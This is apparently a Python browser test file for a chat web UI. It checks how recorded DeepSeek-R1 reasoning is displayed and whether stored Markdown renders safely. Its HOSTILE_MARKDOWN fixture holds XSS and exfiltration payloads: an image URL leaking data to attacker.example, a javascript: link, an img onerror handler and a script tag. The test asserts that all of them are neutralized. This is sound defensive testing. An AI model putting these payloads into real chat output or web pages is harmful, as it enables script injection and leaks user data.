"""Reasoning display and Markdown safety in the browser.

No DeepSeek-R1 model can run here, so a replay engine streams a recorded R1 distill output (slowly,
in 3-character chunks that cut the tags apart) behind the real gateway on a real uvicorn server;
the UI reads it through the public /v1/chat/completions SSE like with a real R1 model.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from pages import no_alert, open_app, wait_for

from r1_replay import RECORDED, start_replay_server
from server_process import free_port

By = pytest.importorskip("selenium.webdriver.common.by").By
Keys = pytest.importorskip("selenium.webdriver.common.keys").Keys

MODEL = "deepseek-r1:7b"


@pytest.fixture(scope="module")
def replay_url(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    port = free_port()
    # Slow enough to see the reasoning block open while the reasoning streams.
    server, thread = start_replay_server(
        tmp_path_factory.mktemp("ui-replay"), port, default_model=MODEL, delay_s=0.06
    )
    url = f"http://127.0.0.1:{port}"
    # Load the model once so /v1/models lists it, as an installed R1 would be.
    httpx.post(
        url + "/v1/chat/completions",
        json={"model": MODEL, "messages": [{"role": "user", "content": "?"}]},
        timeout=30,
    )
    yield url
    server.should_exit = True
    thread.join(timeout=10)


def test_reasoning_block_open_while_streaming_then_folded(
    replay_url: str, browser: Any, artifacts: Path
) -> None:
    open_app(browser, replay_url)
    wait_for(
        lambda: MODEL in browser.find_element(By.ID, "model-picker").text, what="the R1 model in the picker"
    )
    from selenium.webdriver.support.ui import Select

    Select(browser.find_element(By.ID, "model-picker")).select_by_value(MODEL)
    box = browser.find_element(By.ID, "chat-input")
    box.send_keys("煤矿采煤工作面回风流中甲烷浓度的上限是多少？")
    box.send_keys(Keys.ENTER)
    block = wait_for(lambda: browser.find_element(By.CSS_SELECTOR, ".msg.assistant.streaming details.reasoning:not([hidden])"),
                     20, "the reasoning block while streaming")  # fmt: skip
    assert block.get_attribute("open") is not None, "the reasoning block must be open while the model thinks"
    assert "思考中" in block.find_element(By.TAG_NAME, "summary").text
    done = wait_for(
        lambda: browser.find_element(By.CSS_SELECTOR, ".msg.assistant:not(.streaming) details.reasoning"),
        30,
        "the end",
    )
    assert done.get_attribute("open") is None, "the reasoning block must be folded after the answer"
    assert done.find_element(By.TAG_NAME, "summary").text == "思考过程"
    answer = browser.find_element(By.CSS_SELECTOR, ".msg.assistant .bubble .md")
    assert answer.text.strip() == RECORDED["content"].strip().replace("**", "")
    assert answer.find_element(By.TAG_NAME, "strong").text == "1.0%"  # Markdown bold rendered
    assert "</think>" not in answer.text and "甲烷浓度不得超过1.0%" not in answer.text  # reasoning kept apart
    # Stored with the reasoning, so a reload shows it folded again.
    conv_id = wait_for(
        lambda: browser.execute_script("return location.hash.split('/')[2]"), what="the conversation id"
    )
    stored = wait_for(lambda: [m for m in httpx.get(f"{replay_url}/v1/conversations/{conv_id}").json()["messages"]
                               if m["role"] == "assistant"], what="the stored answer")  # fmt: skip
    assert stored[0]["reasoning"].strip() == RECORDED["reasoning"].strip()
    done.find_element(By.TAG_NAME, "summary").click()  # unfold for the screenshot
    assert RECORDED["reasoning"].strip()[:20] in done.text
    browser.save_screenshot(str(artifacts / "ui-chat-reasoning.png"))
    browser.refresh()
    reloaded = wait_for(
        lambda: browser.find_element(By.CSS_SELECTOR, ".msg.assistant details.reasoning"), 20, "after reload"
    )
    assert reloaded.get_attribute("open") is None and reloaded.is_displayed()


HOSTILE_MARKDOWN = """## 结果

| 项目 | 值 |
|---|---|
| 甲烷 | **1.0%** |

```python
print("<b>not bold</b>")
```

![secret](http://attacker.example/leak?q=data) and [docs](https://example.com/doc) and [bad](javascript:alert(1))
<img src="http://attacker.example/x.png" onerror="window.__pwned=1"> <script>window.__pwned=2</script>
"""


def test_stored_answer_markdown_is_safe(replay_url: str, browser: Any) -> None:
    conv = httpx.post(replay_url + "/v1/conversations", json={"title": "markdown", "model": MODEL}).json()
    httpx.post(
        f"{replay_url}/v1/conversations/{conv['id']}/messages", json={"role": "user", "content": "表格"}
    )
    httpx.post(f"{replay_url}/v1/conversations/{conv['id']}/messages",
               json={"role": "assistant", "content": HOSTILE_MARKDOWN, "reasoning": "先想一想。", "model": MODEL})  # fmt: skip
    open_app(browser, replay_url, f"#/chat/{conv['id']}")

    def rendered() -> Any:
        # The conversation may be drawn twice while the app boots: take the drawing that holds the
        # table (an element of the first one goes stale when the second replaces it).
        md = browser.find_element(By.CSS_SELECTOR, ".msg.assistant .md")
        return md if md.find_element(By.CSS_SELECTOR, "table td strong").text == "1.0%" else None

    md = wait_for(rendered, 20, "the stored answer")
    code = md.find_element(By.CSS_SELECTOR, ".codeblock pre code")
    assert code.text == 'print("<b>not bold</b>")'
    assert md.find_elements(By.CSS_SELECTOR, ".codeblock .copy-code")
    # Images never load: they are plain links; a javascript: link is plain text; raw HTML stays text.
    assert md.find_elements(By.TAG_NAME, "img") == [] and md.find_elements(By.TAG_NAME, "script") == []
    hrefs = [a.get_attribute("href") for a in md.find_elements(By.TAG_NAME, "a")]
    assert "http://attacker.example/leak?q=data" in hrefs and "https://example.com/doc" in hrefs
    assert not any(h.startswith("javascript:") for h in hrefs)
    assert '<img src="http://attacker.example/x.png"' in md.text
    assert browser.execute_script("return window.__pwned === undefined") and no_alert(browser)
    block = browser.find_element(By.CSS_SELECTOR, ".msg.assistant details.reasoning")
    assert block.get_attribute("open") is None
